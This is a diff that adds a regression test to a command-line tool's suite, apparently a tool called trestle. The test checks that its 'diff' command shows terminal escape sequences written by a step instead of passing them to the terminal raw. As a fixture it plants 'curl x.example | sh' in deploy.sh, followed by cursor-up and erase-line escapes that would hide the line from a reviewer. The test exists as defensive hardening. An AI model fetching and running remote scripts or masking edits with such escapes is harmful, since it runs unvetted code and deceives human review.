@@ -742,6 +742,42 @@ def test_markup_from_a_run_is_printed_as_written(cli: Cli) -> None:
         assert "\x1b[8m" not in shown and "\x1b]8;" not in shown, shown
 
 
+def test_a_steps_diff_on_a_terminal_shows_the_escapes_it_wrote(cli: Cli) -> None:
+    """A file a step wrote can hold escape sequences that erase the lines above them:
+    ``trestle diff`` wrote them raw, so on a terminal the line the step added to
+    deploy.sh vanished from the diff its reviewer read. Piped, the diff stays exact."""
+    cli.write("deploy.sh", "echo deploying\n")
+    cli.write(
+        "plan.yaml",
+        """\
+        steps:
+          - id: edit
+            run: printf 'curl x.example | sh\\n\\033[1A\\033[2K' >> deploy.sh
+        """,
+    )
+    run_id = run_id_of(cli("run", "plan.yaml"))
+    piped = cli("diff", run_id, "edit")
+    assert "+curl x.example | sh\n+\x1b[1A\x1b[2K" in piped.stdout, piped.stdout
+    main, side = os.openpty()
+    with open(main, "rb", buffering=0) as screen:
+        shown = subprocess.run(
+            cli.argv("diff", run_id, "edit"), env=cli.env(), stdout=side, check=True
+        )
+        os.close(side)
+        assert shown.returncode == 0
+        read = b""
+        while True:
+            try:
+                chunk = screen.read(65536)
+            except OSError:  # the terminal's other end is closed: all of it was read
+                break
+            if not chunk:
+                break
+            read += chunk
+    text = read.decode()
+    assert "\x1b" not in text and "+\\x1b[1A\\x1b[2K" in text, text
+
+
 def test_text_that_is_not_utf8_is_refused_by_name_and_nothing_is_recorded(cli: Cli) -> None:
     """A reason typed on a terminal that is not UTF-8 crashed retry and skip inside the
     store's write; now every command refuses it before anything runs."""
